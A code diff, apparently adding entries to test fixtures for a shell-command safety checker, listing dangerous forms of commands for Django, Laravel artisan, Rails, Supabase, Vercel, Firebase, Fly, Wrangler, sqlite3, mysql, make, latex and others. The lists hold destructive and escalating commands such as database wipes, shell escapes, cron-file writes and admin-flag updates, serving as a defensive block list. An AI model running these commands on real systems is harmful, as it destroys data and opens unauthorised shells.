@@ -11,6 +11,9 @@ const HOST = '203.0.113.9';
 /** JavaScript test runners: a test file or config from elsewhere, a debugger open to the network. */
 const JS_TEST_RUNNER = ['$0 /tmp/evil.test.js', '$0 ../../other/x.test.ts', '$0 --config /tmp/x.config.js', '$0 --inspect-brk=0.0.0.0:9229', '$0 --config=~/x.js'];
 
+/** Django management commands that empty the database or open a shell in the app. */
+const DJANGO = ['$0 manage.py flush --noinput', '$0 manage.py dbshell', "$0 manage.py shell -c 'import os'"];
+
 /** Dangerous forms of specific binaries ($0 = the binary). */
 const SPECIFIC: Record<string, readonly string[]> = {
   find: ['$0 . -exec /bin/sh \\; -quit', '$0 . -name "*.log" -delete', '$0 / -fprint /tmp/list', '$0 . -execdir sh -c id \\;'],
@@ -54,6 +57,14 @@ const SPECIFIC: Record<string, readonly string[]> = {
   prisma: ['$0 migrate reset --force', '$0 db push --force-reset', '$0 db push --accept-data-loss'],
   gradle: ['$0 publish', '$0 -I /tmp/init.gradle build', '$0 --init-script /tmp/x.gradle build'],
   mvn: ['$0 deploy', '$0 -s /tmp/settings.xml test', '$0 exec:exec -Dexec.executable=sh'],
+  python: DJANGO, python3: DJANGO,
+  php: ['$0 artisan migrate:fresh --force', '$0 artisan db:wipe', '$0 artisan tinker'],
+  alembic: ['$0 downgrade base'],
+  supabase: ['$0 db reset', '$0 db push', '$0 functions deploy x'],
+  vercel: ['$0 --prod', '$0 deploy --prod', '$0 env pull', '$0 rm app --yes'],
+  firebase: ['$0 deploy', '$0 firestore:delete --all-collections'],
+  fly: ['$0 deploy', '$0 apps destroy x'],
+  wrangler: ['$0 deploy', '$0 secret put X'],
   make: ['$0 -C /tmp/x', '$0 -f ~/x.mk', "$0 --eval='x:\n\t-/bin/sh'", '$0 SHELL=/bin/sh x', '$0 -f /tmp/evil.mk', '$0 install', '$0 deploy', '$0 release'],
   sqlite3: ["$0 x.db '.read /tmp/x.sql'", "$0 x.db \"ATTACH DATABASE '/etc/cron.d/x' AS x\"", "$0 x.db \"attach '/tmp/x' as x\"", '$0 -init /tmp/x x.db', "$0 /dev/null '.shell /bin/sh'", "$0 /dev/null '.system id'", "$0 x.db '.load /tmp/x.so'", '$0 x.db "DROP TABLE users"', '$0 x.db "delete from users"', '$0 x.db "TRUNCATE users"', '$0 x.db "update users set admin = 1"'],
   mysql: ["$0 -e '\\! /bin/sh'", '$0 --default-auth=../../tmp/x', '$0 --plugin-dir=/tmp -e status', "$0 -e \"select 1 into outfile '/tmp/x'\"", '$0 --defaults-extra-file=/tmp/x.cnf', '$0 -e "DROP TABLE users"', '$0 -e "delete from users"', '$0 -e "TRUNCATE users"', '$0 -e "update users set admin = 1"'],
@@ -80,7 +91,7 @@ const SPECIFIC: Record<string, readonly string[]> = {
   gem: ['$0 open rake', '$0 build ~/x.gemspec', '$0 install --file /tmp/Gemfile', '$0 exec evil', '$0 push x.gem', '$0 install x --source http://$H/'],
   bundle: ['$0 open rake', '$0 console', '$0 install --gemfile=/tmp/Gemfile'],
   rake: ["$0 -e 'exit!'", "$0 -E 'puts 1'", "$0 -p 'ENV.to_h'", '$0 -f /tmp/x.rake', '$0 -g x'],
-  rails: ["$0 runner 'puts 1'", '$0 console', '$0 dbconsole', "$0 r 'puts 1'"],
+  rails: ["$0 runner 'puts 1'", '$0 console', '$0 dbconsole', "$0 r 'puts 1'", '$0 db:drop', '$0 db:reset', '$0 db:schema:load'],
   latexmk: ["$0 -e '$pdflatex=q/id/' x.tex", "$0 -pdflatex='id %O %S' x.tex", '$0 -r /tmp/x.rc x.tex', '$0 -shell-escape x.tex'],
   latex: ['$0 --shell-escape x.tex', "$0 '\\immediate\\write18{id}\\end'", '$0 -cnf-line=shell_escape=t x.tex', '$0 /tmp/x.tex'],
   puppet: ["$0 apply -e 'exec { \"id\": path => \"/bin\" }'", '$0 apply /tmp/x.pp', '$0 filebucket -l restore /etc/cron.d/x 0123'],
